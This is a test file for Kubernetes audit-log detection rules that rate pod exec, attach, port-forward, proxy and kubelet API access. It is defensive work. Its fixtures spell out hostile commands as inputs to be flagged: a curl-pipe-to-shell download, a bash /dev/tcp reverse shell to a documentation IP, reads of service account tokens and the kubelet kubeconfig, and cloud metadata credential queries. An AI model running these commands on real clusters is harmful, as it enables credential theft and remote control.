import { apiserverProxyRule, commandIndicators, isShell, kubeletDirectAccessRule, podExecRule } from '../../../lambdas/core/rules/exec';
import { auditEvent, execViaGet } from '../../helpers/events';
import { hitsOf, severityOf } from '../../helpers/rules';
import type { Ev } from '../../helpers/shipping';
import { findingsOf, nearMisses, reaches, users } from './support/requests';

/** A stream request as the API server logs it: the options live in the URI query. */
function stream(sub: 'exec' | 'attach' | 'portforward', query: string, over: Ev = {}): Ev {
  const namespace = typeof over.namespace === 'string' ? over.namespace : 'shop';
  const pod = 'web-7d9f8c6b5-x2lqp';
  const { namespace: _ns, ...rest } = over;
  return auditEvent({
    level: 'Request',
    verb: 'create',
    stage: 'ResponseStarted',
    requestURI: `/api/v1/namespaces/${namespace}/pods/${pod}/${sub}?${query}`,
    objectRef: { resource: 'pods', subresource: sub, namespace, name: pod, apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 101 },
    ...rest,
  });
}

const q = (command: string[], extra = 'container=web&stdout=true&stderr=true'): string =>
  `${command.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&${extra}`;

describe('exec.pod-exec', () => {
  it('names the command of a websocket exec (verb get) and rates an interactive shell medium', () => {
    const [hit] = hitsOf(podExecRule, execViaGet());
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com ran `sh` in container postgres of pod db/postgres-0');
    expect(hit.evidence).toMatchObject({ transport: 'websocket (get)', command: ['sh'], stdin: true, tty: true, reasons: ['interactive shell'] });
  });

  it('rates a shell that downloads and runs a script high, with the script in the summary', () => {
    const event = stream('exec', q(['/bin/sh', '-c', 'curl -fsSL http://203.0.113.50/x.sh | sh']));
    const [hit] = hitsOf(podExecRule, event);
    expect(hit.severity).toBe('high');
    expect(hit.summary).toContain('ran `/bin/sh -c "curl -fsSL http://203.0.113.50/x.sh | sh"` in container web of pod shop/');
    expect(hit.evidence?.reasons).toEqual(['downloads or opens a network connection']);
  });

  it('rates reading the service account token in kube-system critical', () => {
    const event = stream('exec', q(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), { namespace: 'kube-system' });
    expect(severityOf(podExecRule, event)).toBe('critical');
    expect(hitsOf(podExecRule, event)[0].evidence?.reasons).toEqual(['reads service account token', 'system namespace kube-system']);
  });

  it.each([
    ['IRSA web identity token', ['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'], 'reads service account token'],
    ['instance metadata (IPv4)', ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'], 'reaches cloud metadata'],
    ['instance metadata (IPv6)', ['wget', '-qO-', 'http://[fd00:ec2::254]/latest/api/token'], 'reaches cloud metadata'],
    [
      'EKS Pod Identity agent',
      ['sh', '-c', 'curl -H "Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)" http://169.254.170.23/v1/credentials'],
      'reaches cloud metadata',
    ],
    ['a reverse shell', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], 'downloads or opens a network connection'],
    ['the kubelet kubeconfig', ['cat', '/var/lib/kubelet/kubeconfig'], 'reads credential files'],
  ])('rates %s high', (_what, command, reason) => {
    const [hit] = hitsOf(podExecRule, stream('exec', q(command)));
    expect(hit.severity).toBe('high');
    expect(hit.evidence?.reasons).toContain(reason);
  });

  it('rates a plain command medium (code run with the pod identity) and an environment dump medium', () => {
    expect(severityOf(podExecRule, stream('exec', q(['ls', '-la', '/app'])))).toBe('medium');
    expect(severityOf(podExecRule, stream('exec', q(['printenv'])))).toBe('medium');
    // `env` with arguments runs a program; it is not a dump.
    expect(severityOf(podExecRule, stream('exec', q(['env', 'LANG=C', 'ls'])))).toBe('medium');
  });

  it('tells kubectl cp apart: copying into or out of a container is medium at least (code run in the pod)', () => {
    const into = hitsOf(podExecRule, stream('exec', q(['tar', '-xmf', '-', '-C', '/usr/local/bin'], 'container=web&stdin=true')))[0];
    expect(into.severity).toBe('medium');
    expect(into.evidence?.reasons).toContain('copies files into the container (kubectl cp)');
    expect(severityOf(podExecRule, stream('exec', q(['tar', 'cf', '-', '/app/data'])))).toBe('medium');
    // ...unless what it copies is named like a credential.
    expect(severityOf(podExecRule, stream('exec', q(['tar', 'cf', '-', '/app/secrets/credentials.json'])))).toBe('medium');
  });

  it('reports attach (medium with input) and port-forward (low, medium in system namespaces)', () => {
    const attach = hitsOf(podExecRule, stream('attach', 'container=web&stdin=true&stdout=true&tty=true'))[0];
    expect(attach).toMatchObject({ severity: 'medium', summary: 'alice@example.com attached to container web of pod shop/web-7d9f8c6b5-x2lqp with input' });
    expect(severityOf(podExecRule, stream('attach', 'container=web&stdout=true'))).toBe('low');
    const forward = hitsOf(podExecRule, stream('portforward', 'ports=5432', { verb: 'get' }))[0];
    expect(forward).toMatchObject({
      severity: 'low',
      summary: 'alice@example.com forwarded port 5432 of pod shop/web-7d9f8c6b5-x2lqp',
      evidence: { ports: ['5432'] },
    });
    expect(severityOf(podExecRule, stream('portforward', 'ports=10250', { namespace: 'kube-system' }))).toBe('medium');
  });

  it('keeps a bearer token typed on the command line out of the summary and the finding', async () => {
    const token = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6a3ViZS1zeXN0ZW06YWRtaW4ifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ';
    const event = stream('exec', q(['curl', '-k', '-H', `Authorization: Bearer ${token}`, 'https://kubernetes.default.svc/api/v1/secrets']));
    const findings = await findingsOf([podExecRule], [event]);
    expect(findings[0].summary).toContain('curl -k -H "Authorization: Bearer [redacted]"');
    expect(JSON.stringify(findings)).not.toContain(token.slice(0, 30));
  });

  it('says when the command is not logged instead of staying silent', () => {
    const event = stream('exec', '');
    expect(hitsOf(podExecRule, event)[0]).toMatchObject({
      severity: 'medium',
      summary: 'alice@example.com ran a command (not logged) in pod shop/web-7d9f8c6b5-x2lqp',
      evidence: { command: 'not logged' },
    });
  });

  it('reads a PodExecOptions body when the URI has no command', () => {
    const event = stream('exec', '', {
      requestObject: { kind: 'PodExecOptions', command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], container: 'app' },
    });
    expect(hitsOf(podExecRule, event)[0]).toMatchObject({ severity: 'high', evidence: { container: 'app' } });
  });

  it('reports a foreign service account like a person', () => {
    expect(severityOf(podExecRule, stream('exec', q(['id']), { user: users.serviceAccount('ci', 'deployer') }))).toBe('medium');
  });

  const positive = stream('exec', q(['sh'], 'container=web&stdin=true&tty=true'));
  it.each(nearMisses(positive))('raises nothing when %s', (_why, event) => {
    expect(hitsOf(podExecRule, event)).toEqual([]);
  });

  it('ignores reads of the pod and its logs, which are not streams into it', () => {
    const log = auditEvent({
      requestURI: '/api/v1/namespaces/shop/pods/web/log?container=web',
      objectRef: { resource: 'pods', subresource: 'log', namespace: 'shop', name: 'web', apiVersion: 'v1' },
    });
    expect(hitsOf(podExecRule, auditEvent())).toEqual([]);
    expect(hitsOf(podExecRule, log)).toEqual([]);
    expect(reaches(podExecRule, log)).toBe(false);
  });

  it('declares both verbs: SPDY (create) and websocket (get) exec reach it past the pre-check', () => {
    expect(reaches(podExecRule, positive)).toBe(true);
    expect(reaches(podExecRule, execViaGet())).toBe(true);
    expect(reaches(podExecRule, stream('portforward', 'ports=80', { verb: 'get' }))).toBe(true);
  });

  it('raises one finding for the ResponseStarted and ResponseComplete stages of one exec', async () => {
    const started = execViaGet();
    const complete = { ...started, stage: 'ResponseComplete', stageTimestamp: '2026-11-20T10:05:00.000000Z' };
    const findings = await findingsOf([podExecRule], [started, complete]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      ruleId: 'exec.pod-exec',
      category: 'exec',
      verb: 'get',
      target: { resource: 'pods', subresource: 'exec', namespace: 'db', name: 'postgres-0' },
    });
  });
});

describe('command decoding helpers', () => {
  it('knows shells, also behind busybox, and not things that merely end in sh', () => {
    expect(isShell(['/bin/bash'])).toBe(true);
    expect(isShell(['busybox', 'sh'])).toBe(true);
    expect(isShell(['/usr/bin/ssh', 'host'])).toBe(false);
    expect(isShell(['refresh'])).toBe(false);
  });

  it('does not see network tools inside other words', () => {
    expect(commandIndicators(['sync'])).toEqual([]);
    expect(commandIndicators(['/usr/bin/rsync-helper.sh'])).toEqual([]);
    expect(commandIndicators(['curl', 'localhost:8080/healthz'])).toEqual(['downloads or opens a network connection']);
  });
});

describe('exec.apiserver-proxy', () => {
  function proxy(resource: 'nodes' | 'pods' | 'services', name: string, path: string, over: Ev = {}): Ev {
    const namespace = typeof over.namespace === 'string' ? over.namespace : resource === 'nodes' ? undefined : 'shop';
    const { namespace: _ns, ...rest } = over;
    const ns = namespace ? `/namespaces/${namespace}` : '';
    return auditEvent({
      verb: 'get',
      requestURI: `/api/v1${ns}/${resource}/${name}/proxy${path}`,
      objectRef: { resource, subresource: 'proxy', name, ...(namespace ? { namespace } : {}), apiVersion: 'v1' },
      ...rest,
    });
  }

  it('rates a command run through the kubelet API critical in kube-system, with the command', () => {
    const event = proxy('nodes', 'ip-10-0-1-23.ec2.internal', '/run/kube-system/aws-node-5xk2p/aws-node?cmd=id', { verb: 'create' });
    const [hit] = hitsOf(apiserverProxyRule, event);
    expect(hit.severity).toBe('critical');
    expect(hit.summary).toBe('alice@example.com ran `id` through the kubelet API of node ip-10-0-1-23.ec2.internal (/run/kube-system/aws-node-5xk2p/aws-node)');
  });

  it('catches exec through nodes/proxy with the get verb (websocket), also from a service account', () => {
    const event = proxy('nodes', 'node-1', '/exec/shop/web-0/web?command=sh&command=-c&command=id&output=1', {
      user: users.serviceAccount('monitoring', 'scraper'),
    });
    expect(severityOf(apiserverProxyRule, event)).toBe('high');
    expect(reaches(apiserverProxyRule, event)).toBe(true);
  });

  it('rates kubelet endpoints that disclose pods or configuration medium', () => {
    expect(severityOf(apiserverProxyRule, proxy('nodes', 'node-1', '/configz'))).toBe('medium');
    expect(severityOf(apiserverProxyRule, proxy('nodes', 'node-1', '/pods'))).toBe('medium');
  });

  it('ignores metrics scraping by service accounts and rates a person doing it low', () => {
    expect(hitsOf(apiserverProxyRule, proxy('nodes', 'node-1', '/metrics/cadvisor', { user: users.serviceAccount('monitoring', 'prometheus') }))).toEqual([]);
    expect(severityOf(apiserverProxyRule, proxy('nodes', 'node-1', '/metrics/cadvisor'))).toBe('low');
  });

  it('reports people reaching pods and services through the proxy (medium in system namespaces), not workloads', () => {
    expect(hitsOf(apiserverProxyRule, proxy('services', 'https:grafana:443', '/api/dashboards'))[0]).toMatchObject({
      severity: 'low',
      summary: 'alice@example.com proxied get /api/dashboards to service shop/https:grafana:443',
    });
    expect(severityOf(apiserverProxyRule, proxy('pods', 'coredns-5d78c9869d-abcde', '/metrics', { namespace: 'kube-system' }))).toBe('medium');
    expect(hitsOf(apiserverProxyRule, proxy('services', 'api:80', '/', { user: users.serviceAccount('shop', 'frontend') }))).toEqual([]);
  });

  it.each(nearMisses(proxy('nodes', 'node-1', '/run/shop/web-0/web?cmd=id', { verb: 'create' })))('raises nothing when %s', (_why, event) => {
    expect(hitsOf(apiserverProxyRule, event)).toEqual([]);
  });

  it('leaves nodes/stats and nodes/metrics (not the proxy) alone', () => {
    const stats = auditEvent({
      requestURI: '/api/v1/nodes/node-1/stats',
      objectRef: { resource: 'nodes', subresource: 'stats', name: 'node-1', apiVersion: 'v1' },
    });
    expect(reaches(apiserverProxyRule, stats)).toBe(false);
    expect(hitsOf(apiserverProxyRule, stats)).toEqual([]);
  });
});

describe('exec.kubelet-direct-access', () => {
  /** A kubelet's review of a caller of its own API, as the API server logs it (RequestResponse unless `level` says otherwise). */
  const review = (user: string, fields: { verb?: string; subresource?: string; allowed?: boolean; actor?: Ev; level?: string; group?: string } = {}): Ev => {
    const spec = {
      user,
      groups: ['system:authenticated'],
      resourceAttributes: {
        verb: fields.verb ?? 'create',
        ...(fields.group ? { group: fields.group } : {}),
        version: 'v1',
        resource: 'nodes',
        subresource: fields.subresource ?? 'proxy',
        name: 'ip-10-0-1-5',
      },
    };
    const body = { apiVersion: 'authorization.k8s.io/v1', kind: 'SubjectAccessReview', metadata: { creationTimestamp: null }, spec };
    return auditEvent({
      level: fields.level ?? 'RequestResponse',
      verb: 'create',
      user: fields.actor ?? users.node('ip-10-0-1-5'),
      requestURI: '/apis/authorization.k8s.io/v1/subjectaccessreviews',
      objectRef: { resource: 'subjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' },
      responseStatus: { metadata: {}, code: 201 },
      // The request body's status is Go's zero value: it says nothing about the decision.
      requestObject: { ...body, status: { allowed: false } },
      ...(fields.level === 'Request' || fields.allowed === undefined ? {} : { responseObject: { ...body, status: { allowed: fields.allowed } } }),
    });
  };
  const stranger = 'system:serviceaccount:shop:web';
  const person = 'arn:aws:sts::111122223333:assumed-role/Developer/sam@example.com';
  const sa = (namespace: string, name: string): string => `system:serviceaccount:${namespace}:${name}`;

  it('rates an allowed write to the kubelet API critical, with who asked and for what', () => {
    const event = review(stranger, { allowed: true });
    expect(reaches(kubeletDirectAccessRule, event)).toBe(true);
    const [hit] = hitsOf(kubeletDirectAccessRule, event);
    expect(hit).toMatchObject({
      severity: 'critical',
      summary: `${stranger} called the kubelet API of node ip-10-0-1-5 directly (create nodes/proxy, allowed)`,
      evidence: { user: stranger, verb: 'create', subresource: 'proxy', allowed: true, askedBy: 'system:node:ip-10-0-1-5' },
    });
  });

  it.each<[string, Ev, string]>([
    ['a person opening exec over websockets (get nodes/proxy)', review(person, { verb: 'get', allowed: true }), 'high'],
    ['a person dumping a container (create nodes/checkpoint)', review(person, { subresource: 'checkpoint', allowed: true }), 'critical'],
    ['a denied attempt', review(stranger, { allowed: false }), 'medium'],
    ['a review logged without its response (outcome unknown)', review(stranger, { level: 'Request' }), 'high'],
    ['a metrics scraper asking to run code (create nodes/proxy)', review(sa('monitoring', 'prometheus-k8s'), { allowed: true }), 'critical'],
    ['kube-proxy asking for exec', review('system:kube-proxy', { subresource: 'exec', allowed: true }), 'critical'],
    ["a log shipper listing the node's pods (get nodes/proxy)", review(sa('amazon-cloudwatch', 'fluent-bit'), { verb: 'get', allowed: true }), 'info'],
    ['a person reading node stats', review(person, { verb: 'get', subresource: 'stats', allowed: true }), 'low'],
  ])('rates %s %s', (_what, event, severity) => {
    expect(severityOf(kubeletDirectAccessRule, event)).toBe(severity);
  });

  it.each<[string, Ev]>([
    ['the API server proxies exec to the kubelet', review('kube-apiserver-kubelet-client', { allowed: true })],
    ['metrics-server scrapes nodes/metrics', review(sa('kube-system', 'metrics-server'), { verb: 'get', subresource: 'metrics', allowed: true })],
    ['Prometheus reads nodes/stats', review(sa('monitoring', 'prometheus-k8s'), { verb: 'get', subresource: 'stats', allowed: true })],
    ['node-exporter reads nodes/log', review(sa('monitoring', 'node-exporter'), { verb: 'get', subresource: 'log', allowed: true })],
    ['aws-node reads nodes/metrics', review(sa('kube-system', 'aws-node'), { verb: 'get', subresource: 'metrics', allowed: true })],
    ['kube-proxy reads nodes/metrics', review('system:kube-proxy', { verb: 'get', subresource: 'metrics', allowed: true })],
    ['a review of the metrics API (group metrics.k8s.io), not the kubelet', review(stranger, { group: 'metrics.k8s.io', allowed: true })],
    [
      'someone other than a kubelet asks (a kube-rbac-proxy)',
      review(stranger, { allowed: true, actor: users.serviceAccount('monitoring', 'kube-rbac-proxy') }),
    ],
  ])('raises nothing when %s', (_why, event) => {
    expect(hitsOf(kubeletDirectAccessRule, event)).toEqual([]);
  });

  it.each(nearMisses(review(stranger, { allowed: true })))('raises nothing when %s', (_why, event) => {
    expect(hitsOf(kubeletDirectAccessRule, event)).toEqual([]);
  });

  it('lets the pre-check skip reviews that are not about nodes', () => {
    const pods = review(stranger, { allowed: true });
    const body = JSON.parse(JSON.stringify(pods).replace(/"nodes"/g, '"pods"')) as Ev;
    expect(reaches(kubeletDirectAccessRule, body)).toBe(false);
    expect(reaches(kubeletDirectAccessRule, review(stranger, { allowed: true }))).toBe(true);
  });
});
